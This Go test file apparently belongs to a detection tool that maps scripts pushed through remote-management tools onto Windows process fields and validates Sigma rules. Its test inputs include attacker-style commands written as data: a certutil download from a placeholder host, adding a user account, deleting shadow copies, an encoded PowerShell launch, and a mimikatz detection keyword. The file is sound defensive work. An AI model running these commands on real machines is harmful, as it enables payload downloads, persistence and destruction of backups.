package sigmahq

import (
	"slices"
	"strings"
	"testing"

	"github.com/tripline/tripline/contract"
	"github.com/tripline/tripline/fields"
	"github.com/tripline/tripline/sigma"
)

func TestImages(t *testing.T) {
	tests := []struct {
		name, interpreter, command string
		images, names              []string
	}{
		{"powershell script", "powershell", `Get-Service`,
			[]string{psImage}, []string{"powershell.exe"}},
		{"pwsh reports its dll", "pwsh", `Get-Service`,
			[]string{pwshImage}, []string{"pwsh.dll"}},
		{"cmd starting programs by bare name", "cmd", `certutil -urlcache -f http://x/a a & net user x /add`,
			[]string{cmdImage, system32 + "certutil.exe", system32 + "net.exe"}, []string{"cmd.exe", "certutil.exe", "net.exe"}},
		{"explicit paths kept, each once", "cmd", `"C:\Tools\7z.exe" a x.7z & C:\Tools\7z.exe t x.7z & CERTUTIL.EXE -decode a b`,
			[]string{cmdImage, `C:\Tools\7z.exe`, system32 + "certutil.exe"}, []string{"cmd.exe", "7z.exe", "certutil.exe"}},
		{"unknown bare exe is in the working directory", "", `agent.exe /silent`,
			[]string{`.\agent.exe`}, []string{"agent.exe"}},
		{"words inside identifiers are not programs", "powershell", `(New-Object Net.WebClient).DownloadString($u); $reg = 1`,
			[]string{psImage}, []string{"powershell.exe"}},
		{"nested powershell from cmd", "cmd", `powershell.exe -nop -enc AAAA`,
			[]string{cmdImage, psImage}, []string{"cmd.exe", "powershell.exe"}},
		{"wmic lives in wbem", "", `wmic shadowcopy delete`,
			[]string{system32 + `wbem\WMIC.exe`}, []string{"WMIC.exe"}},
		{"unknown interpreter, nothing started", "python", `print(1)`, nil, nil},
		{"a URL is not a program", "cmd", `certutil -urlcache -f http://x.example.com/p.exe p.exe`,
			[]string{cmdImage, system32 + "certutil.exe", `.\p.exe`}, []string{"cmd.exe", "certutil.exe", "p.exe"}},
		{"a domain is not a program", "cmd", `nslookup corp.example.com`,
			[]string{cmdImage, system32 + "nslookup.exe"}, []string{"cmd.exe", "nslookup.exe"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			images, names := Images(tc.interpreter, tc.command)
			if !slices.Equal(images, tc.images) || !slices.Equal(names, tc.names) {
				t.Errorf("Images = %q %q, want %q %q", images, names, tc.images, tc.names)
			}
		})
	}
}

func TestImagesBounded(t *testing.T) {
	cmd := ""
	for i := range 1000 {
		cmd += " p" + string(rune('a'+i%26)) + string(rune('a'+i/26%26)) + ".exe"
	}
	if images, _ := Images("cmd", cmd); len(images) != maxImages {
		t.Fatalf("%d images, want the cap %d", len(images), maxImages)
	}
}

func TestViews(t *testing.T) {
	win := func(mod func(*contract.Event)) *contract.Event {
		ev := &contract.Event{EventType: "script.run", MSP: "m", Tenant: "t", Tool: "ninjaone"}
		ev.Script.Interpreter, ev.Script.Command = "powershell", "Get-Process"
		ev.Target.Host = "WS-1"
		if mod != nil {
			mod(ev)
		}
		return ev
	}
	tests := []struct {
		name          string
		ev            fields.Source
		process, ps   bool
		field, expect string
	}{
		{"powershell script: both views", win(nil), true, true, "CommandLine", "Get-Process"},
		{"script block text", win(nil), true, true, "ScriptBlockText", "Get-Process"},
		{"computer is the target host", win(nil), true, true, "Computer", "WS-1"},
		{"parent is the tool's agent", win(nil), true, true, "ParentImage", agentImage["ninjaone"]},
		{"unknown tool: no parent", win(func(e *contract.Event) { e.Tool = "homegrown" }), true, true, "ParentImage", ""},
		{"cmd: process only", win(func(e *contract.Event) { e.Script.Interpreter = "cmd" }), true, false, "CommandLine", "Get-Process"},
		{"no interpreter: process only", win(func(e *contract.Event) { e.Script.Interpreter = "" }), true, false, "Image", ""},
		{"software.push with a command", win(func(e *contract.Event) { e.EventType = "software.push" }), true, true, "CommandLine", "Get-Process"},
		{"no command: none", win(func(e *contract.Event) { e.Script.Command = "" }), false, false, "", ""},
		{"bash: none", win(func(e *contract.Event) { e.Script.Interpreter = "bash" }), false, false, "", ""},
		{"linux host: none", win(func(e *contract.Event) { e.Target.OS = "Ubuntu 22.04" }), false, false, "", ""},
		{"remote session: none", win(func(e *contract.Event) { e.EventType = "session.start" }), false, false, "", ""},
		{"not a contract event: none", fields.Map{Doc: map[string]any{"CommandLine": "x"}}, false, false, "", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p, s := processView(tc.ev), scriptBlockView(tc.ev)
			if (p != nil) != tc.process || (s != nil) != tc.ps {
				t.Fatalf("process view %v, script block view %v; want %v, %v", p != nil, s != nil, tc.process, tc.ps)
			}
			if tc.field == "" {
				return
			}
			src := p
			if tc.field == "ScriptBlockText" {
				src = s
			}
			got := src.Lookup(tc.field)
			if tc.expect == "" {
				if got.Exists() && got.Kind != fields.Strings {
					t.Errorf("%s = %+v, want absent", tc.field, got)
				}
				return
			}
			if got.Str != tc.expect {
				t.Errorf("%s = %q, want %q", tc.field, got.Str, tc.expect)
			}
		})
	}
}

func TestCheck(t *testing.T) {
	tests := []struct{ name, rule, want string }{
		{"mapped", "logsource: {product: windows, category: process_creation}\ndetection:\n  sel: {Image|endswith: '\\x.exe', CommandLine|contains: y, ParentImage|endswith: z, OriginalFileName: x.exe, Computer: h, Description: d}\n  condition: sel", ""},
		{"script block", "logsource: {product: windows, category: ps_script}\ndetection:\n  sel: {ScriptBlockText|contains: y}\n  condition: sel", ""},
		{"keywords", "logsource: {product: windows, category: process_creation}\ndetection:\n  kw: [mimikatz]\n  condition: kw", ""},
		{"unmapped field", "logsource: {product: windows, category: process_creation}\ndetection:\n  sel: {CommandLine|contains: y}\n  f:\n    User|contains: SYSTEM\n  condition: sel and not f", "r.yml:7:5: field User has no counterpart"},
		{"ScriptBlockText is not a process field", "logsource: {product: windows, category: process_creation}\ndetection:\n  sel: {ScriptBlockText: y}\n  condition: sel", "field ScriptBlockText has no counterpart"},
		{"fieldref to an unmapped field", "logsource: {product: windows, category: process_creation}\ndetection:\n  sel: {CommandLine|fieldref: ParentCommandLine}\n  condition: sel", "field ParentCommandLine (fieldref) has no counterpart"},
		{"other category", "logsource: {product: windows, category: file_event}\ndetection:\n  sel: {TargetFilename: y}\n  condition: sel", "category \"file_event\" is not one"},
		{"other product", "logsource: {product: linux, category: process_creation}\ndetection:\n  sel: {CommandLine: y}\n  condition: sel", "logsource linux/process_creation/ is not one"},
		{"service", "logsource: {product: windows, service: security}\ndetection:\n  sel: {EventID: 1}\n  condition: sel", "is not one a pushed script maps to"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			coll, err := sigma.ParseBytes([]byte("title: t\nid: t\n"+tc.rule+"\n"), "r.yml")
			if err != nil {
				t.Fatal(err)
			}
			err = Check(coll.Rules[0])
			if tc.want == "" {
				if err != nil {
					t.Fatalf("Check = %v", err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("Check = %v, want %q", err, tc.want)
			}
		})
	}
}
